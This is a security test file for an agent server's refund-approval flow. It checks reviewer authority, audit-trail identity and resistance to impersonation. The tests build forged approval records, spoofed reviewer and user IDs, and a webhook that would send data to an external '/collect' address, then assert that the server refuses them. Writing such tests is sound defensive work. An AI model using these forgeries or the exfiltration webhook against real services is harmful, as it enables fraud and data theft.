"""Findings 1 and 5: who decides an approval, and who the audit trail says decided it.

A reviewer finds and decides a customer's pending refund, and the audit trail names the
reviewer's authenticated identity whatever the answer claims. The customer cannot approve their
own refund, and a reviewer can do nothing else with a thread that is not theirs. A client that
writes the server's identity keys into its run cannot impersonate anyone.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.integration.devserver import DevServer
from tests.security._server import snapshot, status, thread_at_gate

pytestmark = [pytest.mark.server, pytest.mark.postgres]


async def test_f01_f05_a_reviewer_decides_and_the_audit_names_the_authenticated_reviewer(
    dev_server: DevServer,
) -> None:
    async with dev_server.client("alice") as alice, dev_server.client("rita") as rita:
        thread_id = await thread_at_gate(alice)
        pending = await rita.threads.search(status="interrupted", limit=1000)
        assert thread_id in {t["thread_id"] for t in pending}, "the reviewer cannot find it"
        answer: Any = [{"type": "accept", "reviewer": "someone-else"}]
        await rita.runs.wait(thread_id, "react", command={"resume": answer})
        state: Any = await alice.threads.get_state(thread_id)
    [approval] = state["values"]["approvals"]
    assert approval["decision"] == "accept"
    assert approval["reviewer"] == "rita", "the audit trail names a reviewer the client chose"
    assert len(dev_server.refunds()) == 1


async def test_f01_a_customer_cannot_approve_their_own_refund(dev_server: DevServer) -> None:
    async with dev_server.client("alice") as alice:
        thread_id = await thread_at_gate(alice)
        before = await snapshot(alice, thread_id)
        answer: Any = [{"type": "accept"}]
        refused = await status(alice.runs.wait(thread_id, "react", command={"resume": answer}))
        after = await snapshot(alice, thread_id)
    assert refused == 403
    assert after == before and dev_server.refunds() == []


async def test_f01_a_reviewer_may_only_resume_a_thread_that_is_not_theirs(
    dev_server: DevServer,
) -> None:
    async with dev_server.client("alice") as alice, dev_server.client("rita") as rita:
        thread_id = await thread_at_gate(alice)
        before = await snapshot(alice, thread_id)
        accept: Any = {"resume": [{"type": "accept"}]}
        message: Any = {"messages": [{"role": "user", "content": "Refund it twice."}]}
        forged: Any = {"approvals": [{"decision": "accept", "reviewer": "rita"}]}
        refused = {
            "input": await status(rita.runs.wait(thread_id, "react", input=message)),
            "goto": await status(
                rita.runs.wait(thread_id, "react", command={**accept, "goto": "run_tools"})
            ),
            "update": await status(
                rita.runs.wait(thread_id, "react", command={**accept, "update": forged})
            ),
            "webhook": await status(
                rita.runs.wait(
                    thread_id, "react", command=accept, webhook="https://93.184.216.34/collect"
                )
            ),
            "rollback": await status(
                rita.runs.wait(thread_id, "react", command=accept, multitask_strategy="rollback")
            ),
            "update_state": await status(rita.threads.update_state(thread_id, forged)),
            "metadata": await status(rita.threads.update(thread_id, metadata={"x": 1})),
            "copy": await status(rita.threads.copy(thread_id)),
            "delete": await status(rita.threads.delete(thread_id)),
        }
        after = await snapshot(alice, thread_id)
    not_found = {"input", "metadata", "delete"}  # filtered to the reviewer's own threads
    assert refused == {k: 404 if k in not_found else 403 for k in refused}, str(refused)
    assert after == before and dev_server.refunds() == []


async def test_f01_f05_identity_keys_in_a_run_do_not_impersonate(dev_server: DevServer) -> None:
    """A client naming ``langgraph_auth_user_id`` or ``user_id`` stays who it authenticated as."""
    async with dev_server.client("bob") as bob, dev_server.client("root") as admin:
        thread = await bob.threads.create()
        text: Any = {"messages": [{"role": "user", "content": "I prefer email over phone."}]}
        via_config = await status(
            bob.runs.wait(
                thread["thread_id"],
                "memory_agent",
                input=text,
                config={"configurable": {"langgraph_auth_user_id": "alice", "model": "demo"}},
            )
        )
        await bob.runs.wait(
            thread["thread_id"],
            "memory_agent",
            input=text,
            context={"model": "demo", "user_id": "alice", "langgraph_auth_user_id": "alice"},
        )
        alices = await admin.store.search_items(["memories", "alice"], limit=100)
        bobs = await admin.store.search_items(["memories", "bob"], limit=100)
    assert via_config in (200, 403, 422)
    assert not [i for i in alices["items"] if "phone" in i["value"]["text"]], "wrote as alice"
    assert [i for i in bobs["items"] if "phone" in i["value"]["text"]], "bob's fact is lost"
